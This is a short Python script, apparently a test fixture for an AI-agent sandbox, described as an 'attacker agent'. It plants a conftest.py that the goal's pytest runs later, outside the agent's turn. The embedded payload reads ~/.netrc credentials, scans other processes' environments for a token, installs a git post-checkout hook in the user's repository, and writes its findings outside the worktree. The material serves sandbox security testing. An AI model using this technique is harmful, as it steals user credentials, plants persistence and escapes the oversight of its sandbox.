"""Attacker agent: plants a conftest.py that the goal's pytest runs, outside the agent's turn.

The payload, run by the goal (not by this agent), looks for what a sandboxed
agent cannot reach: the user's ~/.netrc, the runner's environment through
/proc, the user's hooks directory; it writes what it found to a file outside
the worktree (``argv[1]``) and prints a one-line JSON report to the goal log.
"""

import sys
from pathlib import Path

exfil = sys.argv[1]
PAYLOAD = r"""
import json, os
from pathlib import Path

found = {"netrc": None, "environ_hits": 0, "hook_planted": False, "exfil_written": False}
try:
    found["netrc"] = (Path(os.environ.get("HOME", "/nonexistent")) / ".netrc").read_text()
except OSError:
    pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            if b"SOME_TOKEN=" in Path(f"/proc/{entry}/environ").read_bytes():
                found["environ_hits"] += 1
        except OSError:
            pass
try:
    gitdir = Path(Path(".git").read_text().split("gitdir:", 1)[1].strip())
    # the user's repository: whose objects the run's git dir borrows (or, for a
    # `git worktree add` checkout, the common dir two levels up)
    alternates = gitdir / "objects" / "info" / "alternates"
    if alternates.exists():
        common = Path(alternates.read_text().splitlines()[0]).parent
    else:
        common = gitdir.parent.parent
    hook = common / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\necho pwned\n")
    hook.chmod(0o755)
    found["hook_planted"] = True
except (OSError, IndexError):
    pass
try:
    Path(EXFIL).write_text(json.dumps(found))
    found["exfil_written"] = True
except OSError:
    pass
print("PAYLOAD " + json.dumps(found), flush=True)
"""
Path("conftest.py").write_text("EXFIL = " + repr(exfil) + "\n" + PAYLOAD)
print("planted conftest.py for the goal's pytest", flush=True)
